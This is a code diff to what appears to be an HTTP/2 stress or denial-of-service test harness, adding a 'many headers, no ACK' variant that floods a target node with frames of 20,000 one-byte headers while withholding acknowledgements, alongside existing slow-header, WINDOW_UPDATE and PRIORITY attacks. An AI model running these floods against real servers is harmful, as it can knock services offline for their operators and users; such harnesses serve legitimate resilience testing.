@@ -84,13 +84,14 @@ def _trickle(attack: Attack, until: float, head: bytes, parts: list[bytes] | Non
     return sent
 
 
-def many_headers(attack: Attack, until: float) -> int:
+def many_headers(attack: Attack, until: float, *, acknowledges: bool = True) -> int:
     """Calls with 20 000 headers of one byte, in frames of the largest size."""
     block = request_headers(path("Echo"), attack.node_id)
     more = (b"\x00\x01x\x01y" * (MAX_FRAME // 5))[:MAX_FRAME]
     more = more[: len(more) // 5 * 5]
 
     def batch(connection: Connection) -> bytes:
+        connection.acknowledges = acknowledges
         frames = []
         for _ in range(BATCH):
             stream = connection.next_stream()
@@ -286,6 +287,7 @@ KINDS: dict[str, Callable[[Attack, float], int]] = {
     "slow headers": slow_headers,
     "slow requests": slow_data,
     "many headers": many_headers,
+    "many headers, no ACK": lambda a, until: many_headers(a, until, acknowledges=False),
     "method names": method_names,
     "WINDOW_UPDATE": window_updates,
     "PRIORITY": priorities,
